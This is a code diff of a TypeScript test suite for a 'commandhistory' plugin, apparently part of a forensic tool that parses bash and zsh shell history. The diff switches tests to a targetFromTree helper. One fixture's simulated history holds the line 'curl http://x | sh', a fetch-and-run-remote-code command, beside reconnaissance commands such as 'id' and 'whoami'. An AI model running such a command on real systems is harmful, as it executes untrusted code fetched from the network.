@@ -5,6 +5,7 @@ import { defaultRegistry } from "../../../../plugins/index.js";
 import type { AnyRecord } from "../../../../src/records/descriptor.js";
 import { silentLogger } from "../../../../src/util/log.js";
 import { Target } from "../../../../src/target.js";
+import { targetFromTree } from "../../../../plugins/index.js";
 
 async function collect(t: Target, fn: string): Promise<AnyRecord[]> {
   return (await run(t, fn)).records;
@@ -18,7 +19,7 @@ async function run(t: Target, fn: string, args: Record<string, unknown> = {}): P
 
 describe("commandhistory", () => {
   it("reads bash (with HISTTIMEFORMAT stamps) and zsh extended histories", async () => {
-    const t = Target.fromTree({
+    const t = targetFromTree({
       "/etc": dir(),
       "/var": dir(),
       "/root/.bash_history": "#1709539200\nid\nwhoami\n#1709539260\ncurl http://x | sh\n",
@@ -36,7 +37,7 @@ describe("commandhistory", () => {
 
   it("streams lines: a command past 1 MiB is kept cut, a run of NULs (a hole, crash zeros) is no command; both warned", async () => {
     const long = "echo " + "A".repeat(2 * 1024 * 1024);
-    const t = Target.fromTree({ "/etc": dir(), "/var": dir(), "/root/.bash_history": `id\n${long}\n${"\0".repeat(5000)}\nwhoami` });
+    const t = targetFromTree({ "/etc": dir(), "/var": dir(), "/root/.bash_history": `id\n${long}\n${"\0".repeat(5000)}\nwhoami` });
     const { records, outcome } = await run(t, "commandhistory");
     expect(records.map((r) => [String(r.command).length, r.lineno])).toEqual([
       [2, 1],
@@ -51,7 +52,7 @@ describe("commandhistory", () => {
 
   it("reads at most --history-limit MiB of a file, and says where it stopped", async () => {
     const line = "x".repeat(1023) + "\n";
-    const t = Target.fromTree({ "/etc": dir(), "/var": dir(), "/root/.bash_history": line.repeat(3 * 1024) }); // 3 MiB
+    const t = targetFromTree({ "/etc": dir(), "/var": dir(), "/root/.bash_history": line.repeat(3 * 1024) }); // 3 MiB
     const { records, outcome } = await run(t, "commandhistory", { "history-limit": 1 });
     expect(records.length).toBe(1024);
     expect(outcome.warnings).toEqual([{ message: "3145728-byte history: only the first 1048576 bytes were read (--history-limit 0 reads all)", file: "/root/.bash_history", offset: 1048576 }]);
@@ -59,7 +60,7 @@ describe("commandhistory", () => {
   });
 
   it("says why it does not apply", async () => {
-    const t = Target.fromTree({ "/etc": dir(), "/var": dir() });
+    const t = targetFromTree({ "/etc": dir(), "/var": dir() });
     const outcomes = await runOnTarget(t, defaultRegistry.resolve("commandhistory").groups, defaultRegistry, { write: () => {}, close: async () => {} }, { log: silentLogger });
     expect(outcomes[0]).toMatchObject({ status: "absent", reason: "no shell history files in /root or /home/*" });
   });
